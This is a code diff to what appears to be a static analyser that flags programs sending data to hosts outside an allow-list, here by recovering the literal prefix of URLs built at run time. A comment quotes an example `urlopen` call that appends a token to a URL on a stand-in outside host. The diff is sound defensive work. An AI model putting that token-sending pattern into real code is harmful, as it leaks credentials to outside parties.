@@ -178,7 +178,14 @@ def _request(
     if not sends:
         a.facts.fetched.append(url if isinstance(url, str) else "a URL chosen at run time")
     if not isinstance(url, str):
-        if runtime_params and not sends:
+        prefix = _literal_prefix(a, url_node)
+        parts = split_url(prefix) if prefix else None
+        host = (parts.hostname or "") if parts and parts.hostname else ""
+        if not sends and host and not a.program.allows(host):
+            # (`urlopen("https://hooks.example.net/zt?token=" + tok)`: what the run puts in the
+            # URL goes to that host, as a query built at run time does)
+            a.facts.weak_sends.append((evidence, host))
+        elif runtime_params and not sends:
             a.facts.weak_sends.append((evidence, "a URL chosen at run time"))
         if sends:
             a.facts.sends.append((evidence, "a URL chosen at run time"))
@@ -199,6 +206,19 @@ def _request(
     a.add(p for p in request_predictions(method, url, headers, body, a.program.allowed_hosts,
                                          evidence)
           if p.valence == "harm")
+
+
+def _literal_prefix(a: Analysis, node: ast.expr | None) -> str:
+    """The known start of a URL built at run time (``"https://h/x?t=" + tok``, an f-string),
+    where it names a scheme and host; else ""."""
+    while isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
+        node = node.left
+    if isinstance(node, ast.JoinedStr) and node.values:
+        node = node.values[0]
+    value = a.static(node) if node is not None else UNKNOWN
+    if isinstance(value, str) and "://" in value and "/" in value.split("://", 1)[1]:
+        return value
+    return ""
 
 
 def _text_of(a: Analysis, node: ast.expr | None) -> str:
